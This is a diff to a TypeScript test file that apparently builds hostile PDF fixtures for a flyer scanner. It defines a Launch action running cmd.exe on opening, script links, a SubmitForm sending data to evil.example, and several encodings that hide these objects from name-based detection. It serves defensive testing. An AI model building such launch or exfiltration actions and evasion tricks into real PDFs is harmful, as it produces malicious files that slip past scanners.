@@ -15,6 +15,47 @@ const withBytesBeforeEnd = (file: Buffer, bytes: Buffer): Buffer => {
   const end = file.lastIndexOf('%%EOF');
   return Buffer.concat([file.subarray(0, end), bytes, Buffer.from('\n%%EOF\n')]);
 };
+const LINK = '/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 612 792]/A 200 0 R>>]';
+const LAUNCH = '<</S/Launch/F(cmd.exe)>>';
+/** What the file does, and the objects in which that is said, which lie in a stream of it. */
+const HIDDEN: readonly (readonly [string, Pick<PdfOptions, 'catalog' | 'page'>, readonly string[]])[] = [
+  ['a program to launch on opening', { catalog: '/OpenAction 200 0 R' }, [LAUNCH]],
+  ['a program to launch on a page', { page: '/AA<</O 200 0 R>>' }, [LAUNCH]],
+  ['a link to a script', { page: LINK }, [SCRIPT]],
+  ['a link that leads to a page first', { page: LINK }, ['<</S/URI/URI(https://example.org/)/Next 201 0 R>>', SCRIPT]],
+  ['a page shown first', { catalog: '/OpenAction 200 0 R' }, ['<</S/GoTo/D[10 0 R/Fit]/Next 201 0 R>>', SCRIPT]],
+  ['a link that sends', { page: LINK }, ['<</S/SubmitForm/F(https://evil.example)>>']],
+];
+/** How a stream of objects can be written so that its names are not found, though viewers find its objects. */
+const HIDING: readonly (readonly [string, (objects: readonly string[]) => Buffer])[] = [
+  ['packed twice', (objects) => objectsIn(objects, ({ content, numbers }) => packedTwice(content, numbers))],
+  ...[
+    ['a comment that ends the object', '%endobj\n'],
+    ['a comment that begins another', '%\rendobj 1 0 obj<<%1 0 obj<<\n'],
+    ['a comment that begins one of one line', '%1 0 obj <<\n'],
+    ['a text that ends the object', '/X(endobj)'],
+    ['a text that begins another', '/X(endobj 1 0 obj<<)'],
+    ['an object in a key', '/X 1 endobj 1 0 obj<</Y 2'],
+    ['a filter named twice', '/Filter/FlateDecode'],
+    ['a number as a key', '/X 1 0/Y'],
+  ].map(([what = '', entries = '']): (typeof HIDING)[number] => [
+    what,
+    (objects) => objectsIn(objects, ({ content, numbers }) => inHex(content, `${numbers}/Type/ObjStm`, entries)),
+  ]),
+  ['no type', (objects) => objectsIn(objects, ({ content, numbers }) => inHex(content, numbers))],
+  ['a filter by its short name', (objects) => objectsIn(objects, ({ content, numbers }) => inHex(content, numbers, '', '/F/AHx'))],
+  [
+    'a stream in a stream',
+    (objects) =>
+      objectsIn(objects, ({ content, numbers }) =>
+        objectStream([inHex(content, numbers).toString('latin1')], 300),
+      ),
+  ],
+];
+const inHex = (content: string, entries: string, more = '', filter = '/Filter/ASCIIHexDecode'): Buffer =>
+  streamOf(`${Buffer.from(content).toString('hex')}>`, `${entries}${filter}${more}`);
+const packedTwice = (content: string, numbers: string): Buffer =>
+  streamOf(deflateSync(deflateSync(content)), `/Type/ObjStm${numbers}/Filter[/FlateDecode/FlateDecode]`);
 const withName = (object: string): Buffer => pdfOf({ objects: [object] });
 
 export const HOSTILE_FLYERS: readonly (readonly [string, FlyerRefusal, () => Buffer | string])[] = [
